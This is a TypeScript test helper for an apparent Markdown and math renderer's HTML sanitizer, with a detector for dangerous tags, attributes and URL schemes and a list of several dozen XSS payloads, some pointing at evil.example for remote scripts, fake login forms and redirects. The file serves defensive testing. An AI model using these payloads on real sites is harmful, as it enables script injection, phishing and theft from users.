// Texts that want more than to be read, and what of them must never be found in what is made of them.

import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5'

type Node = DefaultTreeAdapterTypes.ChildNode
export type Element = DefaultTreeAdapterTypes.Element

const elementsOf = (nodes: Node[]): Element[] =>
  nodes.flatMap((node) => ('tagName' in node ? [node, ...elementsOf(node.childNodes)] : []))

export const parse = (html: string): Element[] => elementsOf(parseFragment(html).childNodes)

const neverThere = new Set(
  'script style iframe object embed form button input base link meta audio video foreignObject template textarea select noscript'.split(
    ' ',
  ),
)
/** The formula engine draws roots and braces with these; an author's own `<svg>` would carry other parts. */
const drawn = new Set(['svg', 'path', 'line'])

/** Everything in the output that could run, load from or lead to somewhere it must not. */
export function dangers(html: string): string[] {
  return parse(html).flatMap((element) => [
    ...(neverThere.has(element.tagName) ? [`<${element.tagName}>`] : []),
    ...(drawn.has(element.tagName) && !html.includes('class="katex"') ? [`<${element.tagName}>`] : []),
    ...element.attrs.flatMap(({ name, value }) => {
      if (/^on/i.test(name)) return [name]
      if (['srcdoc', 'formaction', 'action', 'xlink:href', 'srcset', 'poster', 'background'].includes(name))
        return [name]
      if (name === 'style' && !/^[\w\s:;.,#%()+-]*$/.test(value)) return [`style=${value}`]
      if (name === 'style' && /url|expression|position\s*:\s*fixed/i.test(value)) return [`style=${value}`]
      if (name !== 'href' && name !== 'src') return []
      const { protocol } = new URL(value, 'https://self.invalid')
      const allowed = name === 'href' ? ['http:', 'https:', 'mailto:'] : ['http:', 'https:']
      return allowed.includes(protocol) ? [] : [`${name}=${value}`]
    }),
  ])
}

export const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt/src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  'a <img src=x onerror=alert(1)> b',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<div style="position:fixed;inset:0">over everything</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.example><button>log in</button></form>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](\u00a0javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://self.invalid/1)',
  '[x](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x" onerror="alert(1)](/uploads/a.png)',
  '![x](/uploads/a.png "x\\" onerror=\\"alert(1)")',
  '[x](https://a.example "x\\" onmouseover=\\"alert(1)")',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js onload=alert(1)\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> | b |\n|--|--|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '> - <img src=x onerror=alert(1)>\n>   1. [x](javascript:alert(1))',
  '# <img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '[![x](javascript:alert(1))](javascript:alert(1))',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{javascript:alert(1)}$',
  '$\\htmlClass{x" onclick="alert(1)}{y}$',
  '$\\htmlStyle{background:url(javascript:alert(1))}{y}$',
  '$\\htmlData{x=1" onclick="alert(1)}{y}$',
  '$\\htmlId{x}{y}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$\\color{red;background:url(//evil.example)}x$',
  '$\\def\\x{\\href{javascript:alert(1)}}\\x{y}$',
  '$$\n\\unknown{<script>alert(1)</script>}\n$$',
  '```math\n\\href{javascript:alert(1)}{x}\n```',
]
